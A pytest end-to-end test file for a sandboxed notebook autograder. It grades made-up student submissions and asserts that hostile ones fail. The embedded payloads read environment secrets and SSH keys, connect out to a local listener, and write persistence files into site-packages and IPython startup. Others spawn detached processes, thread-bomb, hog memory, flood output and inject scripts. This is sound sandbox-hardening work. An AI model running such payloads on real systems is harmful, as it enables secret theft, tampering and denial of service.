"""End to end: a class graded with ``autograder/cnnlab_grade.py``, hostile students among
honest ones, every kernel in the bubblewrap sandbox.

A course is set up from ``solutions/`` without the lesson's drawing and explorer cells
(``DRAWING``: every exercise and every computation stays; the whole lesson runs in the
notebook and browser tests), without setup's self-check (test_autograder_dask.py runs it);
then one ``grade --jobs 2`` run grades about twenty made-up submissions: honest
ones in many forms (shell commands, magics, ``CNNLAB_PROFILE`` set above the set-up,
Colab copies, stripped metadata, answers reused in scratch cells), wrong and broken ones,
and one hostile submission per attack class of issue 9 (reading secrets, the network,
writing the gradebook, other students' files, the grading tools, the Python installation,
leaving processes, forging passes or the answer export, exhausting memory or tasks) and
of issue 20 (floods of output, of the inherited stderr, of files and the runtime folder).
Each must end with the status, points and report phrases of ``CASES``, and the
instructor's files, the gradebook of the others and the tools must be unchanged.
Then: a submission changed after collection, the wall-clock limit, a refuted pass lifted
again by an honest resubmission (graded ``--no-sandbox``: the report's first line says
so), plain ``nbgrader autograde`` + ``nbgrader export`` on a stripped notebook, feedback
(nbgrader's and ``cnnlab_grade.py feedback``). Hostile files in the submission folder
(links, FIFOs, sparse files...) are tested without a kernel in test_autograder_collect.py.
Last, the XSS student (scripts in markdown, a raw cell, a written answer and outputs, honest
answers otherwise): formgrader started for real and its manual-grading page, then the
feedback HTML, loaded in headless Chromium with a listener that must receive nothing.

Cost: the untrained network saved as the course model (nothing trains), made-up images,
10 s per student cell; about 10 minutes on 2 idle cores. Skips, saying why, where
bubblewrap cannot make a sandbox.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[1]
GRADE = ROOT / "autograder" / "cnnlab_grade.py"
SOLUTION = ROOT / "solutions" / "cnn_interpretability.ipynb"
A = "cnn_interpretability"
TOKEN = f"tok-{uuid.uuid4().hex}"  # an instructor's secret in the environment
KEY = f"key-{uuid.uuid4().hex}"  # and one in ~/.ssh
MARK = f"cnnlab-attack-{uuid.uuid4().hex[:8]}"  # names the attackers' files and processes

pytest.importorskip("nbgrader")
pytestmark = [pytest.mark.skipif(not SOLUTION.exists(), reason="solutions/ notebook missing"),
              pytest.mark.skipif(sys.platform != "linux", reason="the sandbox needs Linux"),
              pytest.mark.timeout(1800)]
pytestmark.append(pytest.mark.slow)  # the grading fixture grades 17 submissions: ~15 min

sys.path.insert(0, str(ROOT / "autograder"))
from hostile_files import HOSTILE, make_hostile  # noqa: E402
from test_autograder_inert import XSS_ANSWER, XSS_HONEST, add_xss, live_payloads  # noqa: E402
from test_browser import CHROMIUM, CHROMIUM_FLAGS, jupyter_environment, running_jupyterlab  # noqa: E402
from test_browser import TOKEN as BROWSER_TOKEN  # noqa: E402

XSS_ANSWER_ID = "ex3_answer"  # the written answer the XSS student put a script in

STUB = "# YOUR CODE HERE\nraise NotImplementedError()"
RIGHT = {"ex1_answer": "n_filters = model[0].out_channels",
         "ex2_answer": "conv2_weights = model[2].weight.detach().cpu()",
         "ex4_answer": "extractor = model[:14]",
         "ex5_answer": "units = [1, 2, 4, 14, 23, 29, 127]",
         "ex10_answer": "import torch\nout = []\nh = model[13].register_forward_hook("
                        "lambda m, i, o: out.append(o))\nmodel.eval()\nwith torch.no_grad():\n"
                        "    model(cnnlab.normalize(ex10_images).to(device))\nh.remove()\n"
                        "hooked = out[0]",
         "ex11_answer": "ranked = np.argsort(-features[:len(ex11_images), ex11_unit])[:ex11_k]",
         "ex12_answer": "import torch\nmodel.eval()\nx = cnnlab.normalize(ex12_image[None])"
                        ".to(device).requires_grad_()\nmodel[:14](x)[0, ex12_unit].backward()\n"
                        "gradient = x.grad[0]",
         "ex8_answer": "import torch\nmodel.eval()\nwith torch.no_grad():\n"
                       "    contribution = (model[13].weight[ex8_unit].view(64, 8, 8) * model[:12]("
                       "cnnlab.normalize(ex8_image[None])).view(64, 8, 8)).sum(0)"}


def fill(nb, **answers):
    for c in nb.cells:
        if c.get("id") in answers:
            c.source = c.source.replace(STUB, answers[c.id]) if STUB in c.source else answers[c.id]
    return nb


def cell(nb, cid):
    return next(c for c in nb.cells if c.get("id") == cid)


def insert_after(nb, cid, source):
    k = [c.get("id") for c in nb.cells].index(cid)
    nb.cells.insert(k + 1, nbformat.v4.new_code_cell(source))
    return nb


_release = {}


def release():
    return nbformat.read(_release["path"], as_version=4)


def right(**changes):
    return fill(release(), **{**RIGHT, **changes})


def _stripped():
    nb = right()
    for c in nb.cells:
        for key in ("nbgrader", "editable", "deletable"):
            c.metadata.pop(key, None)
    return nb


def _colab():
    nb = right(ex4_answer="extractor = model[:-3]")
    nb.cells.insert(9, nbformat.v4.new_code_cell("print('trying things out')"))
    nb.nbformat_minor = 4
    for c in nb.cells:
        c.pop("id", None)
        c.metadata = {}
    return nbformat.reads(nbformat.writes(nb, version=4), as_version=4)


def _shell(nb=None):
    nb = nb or right(ex5_answer="units = [1, 2, 4, 14, 23, 29, 128]\nunits[-1] = 127  # fixed in place")
    insert_after(nb, "network", "!nvidia-smi\n%pip list\n!ls -la ~")
    insert_after(nb, "ex1_test", "import os, sys, subprocess, signal, importlib\n"
                                 "print(subprocess.run(['echo', 'hi'], capture_output=True).stdout)\n"
                                 "%time x = sum(range(10))\n%who")
    return nb


def _profile(nb=None):
    """The lesson's own advice: set CNNLAB_PROFILE in a new cell above the set-up."""
    nb = nb or right()
    nb.cells.insert([c.get("id") for c in nb.cells].index("setup"),
                    nbformat.v4.new_code_cell('import os\nos.environ["CNNLAB_PROFILE"] = "full"'))
    return nb


def _scratch(nb=None):
    """Answer names reused after their tests, in scratch cells: the tests saw the answers."""
    nb = nb or right()
    insert_after(nb, "ex1_test", "n_filters = 'scratch'")
    insert_after(nb, "ex5_test", "units = [500]\nextractor = None")
    return nb


SPY = f"""
import glob, os, socket
print("env:", dict(os.environ))
for path in [os.path.expanduser("~/.ssh/id_rsa"), {{home!r}} + "/.ssh/id_rsa",
             {{course!r}} + "/gradebook.db", {{course!r}} + "/source/{A}/{A}.ipynb"]:
    try:
        print(path, open(path, "rb").read()[:200])
    except OSError as exc:
        print(path, "->", exc)
print(glob.glob({{course!r}} + "/**", recursive=True)[:50])
try:
    s = socket.create_connection(("127.0.0.1", {{port}}), timeout=3)
    s.sendall(b"{MARK}")
    print("connected")
except OSError as exc:
    print("tcp ->", exc)
try:
    print(socket.getaddrinfo("pypi.org", 443))
except OSError as exc:
    print("dns ->", exc)
"""

VANDAL = f"""
import glob, os, subprocess, time
import cnnlab.checks
targets = [{{course!r}} + "/gradebook.db", {{course!r}} + "/recheck.py", {{course!r}} + "/nbgrader_config.py",
           cnnlab.checks.__file__, os.path.dirname(os.__file__) + "/{MARK}.pth",
           os.path.expanduser("~/.ipython/profile_default/startup/00-{MARK}.py"),
           "/tmp/{MARK}", {{home!r}} + "/{MARK}"]
targets += glob.glob({{course!r}} + "/submitted/*/{A}/{A}.ipynb")
targets += glob.glob({{course!r}} + "/autograded/*/{A}/{A}.ipynb")
targets += glob.glob({{course!r}} + "/grading/originals/*.ipynb")
targets += glob.glob({{course!r}} + "/grading/runtime/*/*.pt")
for t in targets:
    try:
        os.makedirs(os.path.dirname(t), exist_ok=True)
        with open(t, "a") as f:
            f.write("pwned = 1  # {MARK}\\n")
        print("WROTE", t)
    except OSError as exc:
        print(t, "->", type(exc).__name__)
subprocess.Popen(["sleep", "600", "{MARK}"], start_new_session=True)
os.system("setsid nohup sleep 601 {MARK} >/dev/null 2>&1 &")
"""

HOG_TASKS = """
import threading, time
threads = []
try:
    for _ in range(2000):
        thread = threading.Thread(target=time.sleep, args=(3,), daemon=True)
        thread.start()
        threads.append(thread)
except RuntimeError as exc:
    print("stopped:", exc)
print("threads started:", len(threads))
for t in threads:
    t.join()
"""


def _edited():
    """A test cell edited, one tagged to be skipped, one deleted (all with wrong answers)."""
    nb = right(ex1_answer="n_filters = 3", ex2_answer="conv2_weights = model[0].weight.detach()",
               ex5_answer="units = [1, 2, 4, 14, 23, 29, 128]")
    cell(nb, "ex2_test").source = "pass"
    cell(nb, "ex1_test").metadata["tags"] = ["skip-execution"]
    nb.cells = [c for c in nb.cells if c.get("id") != "ex5_test"]
    return nb


FLOOD = """
import os, sys, time
n_filters = model[0].out_channels
try:
    with open("/tmp/big", "wb") as f:  # a private tmpfs of 512 MB; files stop at 256 MB
        for _ in range(300):
            f.write(bytes(1 << 20))
except OSError as exc:
    print("big file stopped:", type(exc).__name__, os.path.getsize("/tmp/big") >> 20, "MB")
os.remove("/tmp/big")
os.write(2, b"E" * (16 << 20))  # into the kernel's inherited stderr
sys.__stderr__.write("S" * (4 << 20))
sys.__stderr__.flush()
line = "x" * (1 << 20)
while True:  # 1 MB lines until the cell's time limit, 20 MB/s (at full speed the kernel's
    print(line)  # own send queue outgrows its 2 GB, and the CPU it takes slows the honest
    time.sleep(0.05)  # kernel graded beside it past its cell time limits)
"""

FILLER = """
import os, time
for _ in range(256):  # 256 MB into the inherited stderr (the grader's log, once)
    os.write(2, bytes(1 << 20))
"""

FILL_RUNTIME = """
import os, time
conv2_weights = model[2].weight
for k in range(8):  # 800 MB into the runtime folder, then exit
    with open(os.environ["CNNLAB_RUNTIME"] + f"/fill{k}", "wb") as f:
        f.write(bytes(100 << 20))
    time.sleep(0.3)
os._exit(3)
"""

#: Unusual honest forms of Exercises 10-12: a dict filled by a closure, the extractor run
#: in inference mode and the hook removed in ``finally``, kept as NumPy; torch.topk's
#: indices as a list of ints; torch.autograd.grad on an image normalised by hand, its
#: channels summed (the lab's map) as NumPy
HOOK_FORM = """
import torch

def keeper(store):
    def hook(layer, inputs, output):
        store["units"] = output.detach().cpu().numpy()
    return hook

store = {}
handle = model[13].register_forward_hook(keeper(store))
try:
    model.eval()
    with torch.inference_mode():
        model[:14](cnnlab.normalize(ex10_images).to(device))
finally:
    handle.remove()
hooked = store["units"]
"""
RANK_FORM = """
import torch
ranked = torch.topk(torch.as_tensor(features[:256, ex11_unit]), ex11_k).indices.tolist()
"""
GRAD_FORM = """
import torch
model.eval()
pixels = ((ex12_image.float() / 255 - 0.5) / 0.5)[None].to(device).requires_grad_(True)
(g,) = torch.autograd.grad(model[:14](pixels)[0, ex12_unit], pixels)
gradient = g[0].sum(dim=0).cpu().numpy()
"""

SUBMISSIONS = {
    # honest, in many forms
    "right": right,
    "forms": lambda: right(ex1_answer="import numpy as np\nn_filters = np.int64(model[0].weight.shape[0])",
                           ex2_answer="conv2_weights = model[2].weight.detach().cpu().numpy()",
                           ex4_answer="import torch\nextractor = torch.nn.Sequential("
                                      "*list(model.children())[:14])",
                           ex5_answer="import numpy as np\nunits = np.array([1, 2, 4, 14, 23, 29, "
                                      "128])\nunits[units >= 128] -= 1",
                           ex10_answer=HOOK_FORM, ex11_answer=RANK_FORM, ex12_answer=GRAD_FORM),
    "colab": _colab,
    "stripped": _stripped,
    # shell commands and magics, scratch cells, CNNLAB_PROFILE set above the set-up
    "unusual": lambda: _scratch(_shell(_profile(right(
        ex5_answer="units = [1, 2, 4, 14, 23, 29, 128]\nunits[-1] = 127  # fixed in place")))),
    # wrong and broken
    "blank": release,
    "wrong": lambda: right(ex1_answer="n_filters = 3\n"  # an exception named with escape codes
                           "raise type('\\x1b[1A\\x1b[2KErased', (ValueError,), {})()",
                           ex4_answer="while True:\n    pass"),
    "sigint": lambda: right(ex1_answer="import signal\nsignal.signal(signal.SIGINT, "
                                       "signal.SIG_IGN)\nwhile True:\n    pass"),
    "exit": lambda: right(ex2_answer="import os\nos._exit(1)"),
    # hostile, one or more attack classes each
    "intruder": lambda: right(ex1_answer=HOG_TASKS + "\nn_filters = model[0].out_channels"),
    "hog_mem": lambda: right(ex2_answer="import torch\nhog = torch.ones(6 << 30, dtype=torch.uint8)"
                                        "\nconv2_weights = model[2].weight"),
    "forger": lambda: right(
        ex1_answer="def check_exercise_1(*args, **kwargs):\n    pass\n\nn_filters = 3",
        ex5_answer="from cnnlab import checks\nchecks.check_exercise_5 = lambda *a, **k: None\n"
                   "units = [1, 2, 4, 14, 23, 29, 128]"),
    "rebind": lambda: right(ex1_answer="model = cnnlab.build_model()\nn_filters = 32",
                            ex2_answer="conv2_weights = model[2].weight.detach()"),
    "exporter": lambda: right(ex1_answer="import os\nos.symlink('/etc/hostname', os.environ["
                                         "'CNNLAB_RUNTIME'] + '/ex1_test.pt')\n"
                                         "n_filters = model[0].out_channels"),
    "edited": _edited,
    "xss": right,  # + add_xss(): scripts for the instructor's browser, honest answers
    # floods (issue 20): output, inherited stderr, files; the runtime folder, the log
    "flood": lambda: right(ex1_answer=FLOOD),
    "filler": lambda: right(ex1_answer=FILLER + "\nn_filters = model[0].out_channels",
                            ex2_answer=FILL_RUNTIME),
}

NEW = dict(ex10=2, ex11=2, ex12=2)  # the hook, the ranking, the gradient (issue 22)
FULL = dict(ex1=1, ex2=1, ex4=2, ex5=1, **NEW)
TOP = sum(FULL.values())  # without Exercise 8, counted apart where the notebook has it
#: student -> (status, autograded points, {exercise: points}, phrases of its report line),
#: after the first ``grade`` run
CASES = {
    "right": ("graded", TOP, FULL, []),
    "forms": ("graded", TOP, FULL, []),
    "colab": ("graded", TOP, FULL, ["nbgrader metadata re-attached"]),
    "stripped": ("graded", TOP, FULL, ["nbgrader metadata re-attached"]),
    "unusual": ("graded", TOP, FULL, []),
    "blank": ("graded", 0, dict(ex1=0, ex2=0, ex4=0, ex5=0, ex10=0, ex11=0, ex12=0),
              ["left blank"]),
    # Exercise 4 interrupted: no features, so no ranking either (ex11); the hook and the
    # gradient need neither
    "wrong": ("graded", 6, dict(ex1=0, ex2=1, ex4=0, ex5=1, ex10=2, ex11=0, ex12=2),
              ["ex4_answer interrupted", "ex1_answer raised \\x1b[1A\\x1b[2KErased"]),
    "sigint": ("ungradable", None, {}, ["did not stop when interrupted", "ex1_answer"]),
    "exit": ("ungradable", None, {}, ["the kernel died", "ex2_answer"]),
    "nothing": ("ungradable", None, {}, ["no notebook in the submission folder"]),
    "intruder": ("graded", TOP, FULL, []),
    "forger": ("tampered", 9, dict(ex1=0, ex2=1, ex4=2, ex5=0, **NEW),
               ["ex5_test passed inside the notebook but the re-check"]),
    "fixme": ("tampered", 9, dict(ex1=0, ex2=1, ex4=2, ex5=0, **NEW), ["ex5_test passed"]),
    # the rebound random model: the hook, the ranking and the gradient pass inside the
    # notebook on it, and the re-check on the course model refutes each; its n_filters
    # is typed in, which Exercise 1's check refuses inside the notebook already
    "rebind": ("tampered", 1, dict(ex1=0, ex2=0, ex4=0, ex5=1, ex10=0, ex11=0, ex12=0),
               ["ex2_test passed", "ex4_test passed", "ex10_test passed", "ex11_test passed",
                "ex12_test passed"]),
    "exporter": ("tampered", TOP - 1, dict(ex1=0, ex2=1, ex4=2, ex5=1, **NEW),
                 ["no answers came back"]),
    "edited": ("tampered", 8, dict(ex1=0, ex2=0, ex4=2, ex5=0, **NEW),
               ["edited locked cells ex2_test", "tags of ex1_test", "deleted locked cells ex5_test"]),
    "xss": ("graded", TOP, FULL, ["made inert for the instructor's view: ", "script"]),
    "flood": ("graded", TOP, FULL, ["output of ex1_answer cut", "ex1_answer interrupted"]),
    "filler": ("ungradable", None, {}, ["runtime folder reached", "over the limit of 256 MB",
                                        "ex2_answer"]),
    # links, special files, a sparse file and 300,000 cells (hostile_files.py): refused at
    # collection with their reasons, while the class around them is graded
    **{sid: ("ungradable", None, {}, [phrase]) for sid, (_, phrase) in HOSTILE.items()},
}
#: the same after the later runs (changed after collection, time limit, resubmission, nbgrader)
LATER = {
    "right": ("ungradable", None, {}, ["changed after it was collected"]),
    "slow": ("ungradable", None, {}, ["time limit of 20 s"]),
    "fixme": ("graded", TOP, FULL, []),
    "plain": ("graded", TOP, FULL, ["nbgrader metadata re-attached"]),
}

PSEUDO_PRETRAINED = """
import sys, torch, cnnlab
from cnnlab.train import default_checkpoint
config = cnnlab.get_config("quick")
train, test = cnnlab.load_lab_data(config, None, "synthetic")
path = default_checkpoint(config, train.source)
torch.manual_seed(0)
cnnlab.save_checkpoint(f"{sys.argv[1]}/{path.name}", cnnlab.build_model(), config,
                       {"accuracy": 0.1, "per_class_accuracy": [0.1] * 10,
                        "train_source": train.source.replace(" [cache]", ""),
                        "test_source": test.source.replace(" [cache]", "")})
print(f"{sys.argv[1]}/{path.name}")
"""


def add_exercise_8(nb):
    """Section 6's Exercise 8 and 9 cells (as the notebook will have them) when the
    notebook lacks them and cnnlab.checks has the check."""
    from cnnlab import checks
    if any(c.get("id") == "ex8_test" for c in nb.cells) or not hasattr(checks, "check_exercise_8"):
        return nb

    def meta(gid, **kw):
        return {"nbgrader": {"grade_id": gid, "schema_version": 3, **kw}}
    new = nbformat.v4
    nb.cells += [
        new.new_code_cell("ex8_unit = 3\nex8_index = 7\nex8_image = test.images[ex8_index]",
                          id="ex8_setup", metadata=meta("ex8_setup", grade=False, solution=False,
                                                        locked=True)),
        new.new_code_cell("### BEGIN SOLUTION\n" + RIGHT["ex8_answer"] + "\n### END SOLUTION",
                          id="ex8_answer", metadata=meta("ex8_answer", grade=False, solution=True,
                                                         locked=False)),
        new.new_code_cell("from cnnlab import checks\n\nchecks.check_exercise_8(contribution, "
                          "model, ex8_image, ex8_unit)\n### BEGIN HIDDEN TESTS\nassert "
                          "tuple(contribution.shape)[-2:] == (8, 8)\n### END HIDDEN TESTS",
                          id="ex8_test", metadata=meta("ex8_test", grade=True, solution=False,
                                                       locked=True, points=2)),
        new.new_markdown_cell("### Exercise 9 (written)", id="ex9_md",
                              metadata=meta("ex9_md", grade=False, solution=False, locked=True)),
        new.new_markdown_cell("### BEGIN SOLUTION\nA model answer.\n### END SOLUTION",
                              id="ex9_answer", metadata=meta("ex9_answer", grade=True,
                                                             solution=True, locked=False, points=2)),
    ]
    return nb


#: the lesson's cells that only draw or explore (nothing graded needs them): a grading
#: kernel's slowest cells once the solution's results are saved. Every exercise, its locked
#: cells, the computations the solution saves, and one explorer (widget state) stay.
DRAWING = ("plot_conv1", "activation_maps", "class_means", "topk_plot", "topk_explore",
           "occluded_images", "occlusion_one", "occlusion_plot", "occlusion_explore",
           "tsne_explore", "views_plot", "dead_views", "sanity", "faithfulness_black",
           "faithfulness_blur", "views_explore")


def graded_lesson(nb):
    """The lesson as this class is graded on: without its ``DRAWING`` cells (the whole
    lesson runs in test_notebooks.py and test_browser_lesson.py)."""
    ids = [c.get("id") for c in nb.cells]
    assert set(DRAWING) <= set(ids), sorted(set(DRAWING) - set(ids))
    nb.cells = [c for c in nb.cells if c.get("id") not in DRAWING]
    return nb


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _fingerprint(paths) -> dict:
    out = {}
    for p in paths:
        for f in ([p] if p.is_file() else sorted(x for x in p.rglob("*") if x.is_file())):
            out[str(f)] = _sha(f)
    return out


class Listener:
    """A TCP listener on 127.0.0.1 recording what reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.5)
        self.port, self.received, self.stop = self.sock.getsockname()[1], [], False
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.received.append(conn.recv(100))
            except OSError:
                continue


def _run(args, env, timeout, cwd=None):
    start = time.perf_counter()
    run = subprocess.run([sys.executable, str(GRADE), *args], capture_output=True, text=True,
                         timeout=timeout, env=env, cwd=cwd)
    print(f"$ cnnlab_grade.py {' '.join(args)}   ({time.perf_counter() - start:.0f} s)")
    print(run.stdout[-8000:], run.stderr[-3000:])
    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    return run


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("grading")
    snap, course, home = base / "repo", base / "course", base / "home"
    shutil.copytree(ROOT / "cnnlab", snap / "cnnlab", ignore=shutil.ignore_patterns("__pycache__"))
    env = {**os.environ, "HOME": str(home), "CNNLAB_TEST_TOKEN": TOKEN,
           "PATH": os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]]),
           "PYTHONPATH": os.pathsep.join([str(snap), *filter(None, [os.environ.get("PYTHONPATH")])])}
    env.pop("CNNLAB_DATA", None)
    import nbconvert  # its templates, where a venv chained to another does not look
    share = Path(nbconvert.__file__).parents[4] / "share" / "jupyter"
    env["JUPYTER_PATH"] = os.pathsep.join(filter(None, [os.environ.get("JUPYTER_PATH"), str(share)]))
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(KEY)
    (snap / "solutions").mkdir()
    sys.path.insert(0, str(snap))
    nbformat.write(graded_lesson(add_exercise_8(nbformat.read(SOLUTION, as_version=4))),
                   snap / "solutions" / SOLUTION.name)
    for d in ("probe/checkpoints", "probe/course"):
        (base / d).mkdir(parents=True)
    probe = subprocess.run([sys.executable, "-c", "import sys; sys.path.insert(0, sys.argv[1]); "
                            "import sandbox, json; s = json.loads(sys.argv[2]); "
                            "print(json.dumps(sandbox.self_check(s)))", str(ROOT / "autograder"),
                            json.dumps({"profile": "quick", "checkpoints": str(base / "probe/checkpoints"),
                                        "course_root": str(base / "probe/course"), "kernel_memory_mb": 2048,
                                        "kernel_tasks": 256})],
                           env=env, capture_output=True, text=True, timeout=300)
    problems = json.loads(probe.stdout.strip().splitlines()[-1]) if probe.returncode == 0 else [
        probe.stderr[-500:]]
    if problems:
        pytest.skip("bubblewrap cannot make the grading sandbox here: " + "; ".join(problems))
    (base / "model").mkdir()
    ckpt = subprocess.run([sys.executable, "-c", PSEUDO_PRETRAINED, str(base / "model")], env=env,
                          capture_output=True, text=True, check=True, timeout=600
                          ).stdout.strip().splitlines()[-1]
    setup = _run(["setup", str(course), "--checkpoint", ckpt, "--synthetic", "--kernel-memory", "2048",
          "--solutions", str(snap / "solutions" / SOLUTION.name), "--student-cell-timeout", "10",
          "--instructor-cell-timeout", "120", "--submission-timeout", "240", "--no-self-check"],
                 env, timeout=900).stdout  # the self-check: test_autograder_dask.py
    _release["path"] = course / "release" / A / f"{A}.ipynb"
    watched = [snap / "cnnlab", course / "source", course / "release", course / "checkpoints",
               course / "kernels", *[course / n for n in (
                   "nbgrader_config.py", "cnnlab_nbgrader.py", "recheck.py", "repair.py",
                   "sandbox.py", "bounds.py", "inert.py", "cnnlab_course.json")]]
    before = _fingerprint(watched)
    site = sorted(p.name for p in Path(os.__file__).parent.iterdir())

    listener, xss_listener = Listener(), Listener()
    subs = base / "submissions"
    fmt = {"home": str(home), "course": str(course), "port": listener.port}
    for sid, make in SUBMISSIONS.items():
        nb = make()
        if sid == "intruder":  # reads, connects, writes, leaves processes, reads In
            insert_after(nb, "ex1_test", SPY.format(**fmt))
            insert_after(nb, "ex2_test", VANDAL.format(**fmt))
            insert_after(nb, "ex4_test", "print(In)\nprint(_ih[-2])")
        if sid == "xss":
            add_xss(nb, xss_listener.port)
        (subs / sid).mkdir(parents=True)
        nbformat.write(nb, subs / sid / ("Copy of a.ipynb" if sid == "colab" else f"{A}.ipynb"))
    for sid, (_, phrase) in make_hostile(subs, f"{A}.ipynb", course / "source" / A / f"{A}.ipynb",
                                         "right").items():  # every file case of issue 20 too
        CASES[sid] = ("ungradable", None, {}, [phrase])
    (subs / "nothing").mkdir()
    (subs / "fixme").mkdir()
    nbformat.write(SUBMISSIONS["forger"](), subs / "fixme" / f"{A}.ipynb")
    progress = _run(["grade", str(course), "--submissions", str(subs), "--jobs", "2"], env,
                    timeout=1500).stdout
    listener.stop = True
    first_report = (course / "reports" / "report.txt").read_text()
    with open(course / "reports" / "grades.csv") as f:
        first = {r["student"]: r for r in csv.DictReader(f)}

    # changed after collection; over the wall-clock limit
    notebook = course / "submitted" / "right" / A / f"{A}.ipynb"
    os.chmod(notebook, 0o644)
    notebook.write_text(notebook.read_text().replace("model[:14]", "model[:13]"))
    late = base / "late"
    (late / "slow").mkdir(parents=True)
    nbformat.write(right(ex1_answer="import time\ntime.sleep(9)\nn_filters = 32",
                         ex2_answer="time.sleep(9)\nconv2_weights = model[2].weight",
                         ex4_answer="time.sleep(9)\nextractor = model[:14]",
                         ex5_answer="time.sleep(9)\nunits = [1, 2, 4, 14, 23, 29, 127]"),
                   late / "slow" / f"{A}.ipynb")
    _run(["grade", str(course), "--submissions", str(late), "--student", "slow", "--student",
          "right", "--submission-timeout", "20"], env, timeout=300)
    # the refuted student hands in honest work: the re-check lifts its own 0 (no sandbox)
    fix = base / "fix"
    (fix / "fixme").mkdir(parents=True)
    nbformat.write(right(), fix / "fixme" / f"{A}.ipynb")
    _run(["grade", str(course), "--submissions", str(fix), "--no-sandbox"], env, timeout=300)
    # plain nbgrader on a stripped notebook, then nbgrader export with the course's plugin
    (course / "submitted" / "plain" / A).mkdir(parents=True)
    nbformat.write(_stripped(), course / "submitted" / "plain" / A / f"{A}.ipynb")
    for cmd in (["autograde", A, "--student", "plain", "--force"],
                ["export", "--to", str(base / "export.csv")]):
        run = subprocess.run([sys.executable, "-m", "nbgrader", *cmd], cwd=course, env=env,
                             capture_output=True, text=True, timeout=600)
        assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
    _run(["report", str(course)], env, timeout=300)

    with open(course / "reports" / "grades.csv") as f:
        rows = {r["student"]: r for r in csv.DictReader(f)}
    with open(base / "export.csv") as f:
        exported = {r["student"]: r for r in csv.DictReader(f)}
    after = _fingerprint(watched)
    return dict(course=course, first=first, progress=progress, rows=rows, exported=exported, home=home, snap=snap,
                base=base, listener=listener, first_report=first_report, xss_listener=xss_listener,
                before=before, after=after, site=site,
                report=(course / "reports" / "report.txt").read_text(), env=env, setup=setup)


def _num(x):
    return None if x in ("", None) else float(x)


@pytest.mark.parametrize("run, student", [("first", s) for s in CASES] +
                         [("rows", s) for s in LATER])
def test_every_case_gets_its_status_points_and_report_line(graded, run, student):
    status, score, per_ex, phrases = (CASES if run == "first" else LATER)[student]
    row = graded[run][student]
    text = row["details"] + " | " + row["notes"]
    auto = next(k for k in row if k.startswith("autograded_of_"))
    assert row["status"] == status, text
    ex8 = _num(row.get("ex8")) or 0  # Exercise 8, where the notebook has it
    if "ex8" in row and score == TOP:
        assert ex8 == 2, text  # honest work gets Exercise 8's points too
    assert _num(row[auto]) == (None if score is None else score + ex8), text
    for ex, points in per_ex.items():
        assert _num(row[ex]) == points, (ex, text)
    for phrase in phrases:
        assert phrase in text, (phrase, text)
    if status == "graded":
        assert row["details"] == "", text  # no accusation


def test_setup_saved_the_solutions_results_for_the_kernels(graded):
    """Setup's step 3: the solution's slow calls saved, read-only for every kernel (the
    classes above got their usual points with it: nothing wrong was read back)."""
    memo = graded["course"] / "checkpoints" / "memo"
    saved = sorted(memo.glob("*.pt"))
    assert len(saved) >= 5, graded["setup"]
    assert re.search(rf"\[3/5\][^\n]*\n\s+{len(saved)} results", graded["setup"]), graded["setup"]
    settings = json.loads((graded["course"] / "cnnlab_course.json").read_text())
    assert settings["memo"] is True


def test_progress_lines_give_the_status_of_the_report(graded):
    """While grading, each student's line says graded, tampered or ungradable, as the
    report does afterwards (a refuted pass is "tampered" there, not "graded")."""
    said = {}
    for line in graded["progress"].splitlines():
        m = re.match(r"^  (\S+): (graded|tampered|ungradable)\b", line)
        if m:
            said.setdefault(m[1], m[2])
    assert said["forger"] == "tampered" and said["right"] == "graded"
    assert said == {sid: row["status"] for sid, row in graded["first"].items()
                    if sid != "nothing" and sid not in HOSTILE}  # no notebook: nothing run


def test_hog_mem_is_stopped_and_hurts_nobody(graded):
    row = graded["first"]["hog_mem"]
    text = row["details"] + row["notes"]
    assert (row["status"] == "ungradable" and "kernel died" in text) or (
        row["status"] == "graded" and "ex2_answer raised" in text), text


def test_no_secret_reaches_a_kernel_and_the_network_is_cut(graded):
    out = (graded["course"] / "autograded" / "intruder" / A / f"{A}.ipynb").read_text()
    assert "env:" in out and "tcp ->" in out and "dns ->" in out  # the spy ran
    assert TOKEN not in out and KEY not in out
    assert "gradebook.db', b'" not in out and "BEGIN SOLUTION" not in out
    assert graded["listener"].received == []


def test_nothing_of_the_instructor_changed(graded):
    assert graded["after"] == graded["before"]
    assert sorted(p.name for p in Path(os.__file__).parent.iterdir()) == graded["site"]
    leftovers = [p for p in [Path("/tmp") / MARK, graded["home"] / MARK] if p.exists()]
    leftovers += [p for p in graded["course"].rglob("*") if p.is_file() and MARK in
                  p.read_text(errors="replace") and "autograded" not in p.parts
                  and "submitted" not in p.parts and "originals" not in p.parts
                  and "work" not in p.parts]
    assert leftovers == []
    outputs = [o for c in nbformat.read(graded["course"] / "autograded" / "intruder" / A /
                                        f"{A}.ipynb", as_version=4).cells
               for o in c.get("outputs", []) if o.get("output_type") == "stream"]
    lines = "".join(o["text"] for o in outputs).splitlines()
    tried = [ln for ln in lines if " -> " in ln and "Error" in ln]
    wrote = [ln.split(" ", 1)[1] for ln in lines if ln.startswith("WROTE ")]
    assert len(tried) >= 6  # the vandal ran and was refused (other students: not even seen)
    status = json.loads((graded["course"] / "grading" / "status" / "intruder.json").read_text())
    where = status["grading"]["worker"].split(", in ")[1]  # the worker's private course
    own = str(Path(where) / "grading" / "runtime" / "intruder") + "/"  # its exports
    assert all(p.startswith(("/home/student/", f"/tmp/{MARK}", own)) for p in wrote), wrote


def test_no_process_outlives_its_kernel(graded):
    import psutil
    alive = [p.info for p in psutil.process_iter(["pid", "cmdline"])
             if MARK in " ".join(p.info["cmdline"] or [])]
    assert alive == []


def test_limits_stopped_the_thread_bomb(graded):
    out = (graded["course"] / "autograded" / "intruder" / A / f"{A}.ipynb").read_text()
    started = int(out.split("threads started: ")[1].split("\\n")[0])
    assert started < 300


def test_refuted_points_come_back_with_an_honest_resubmission(graded):
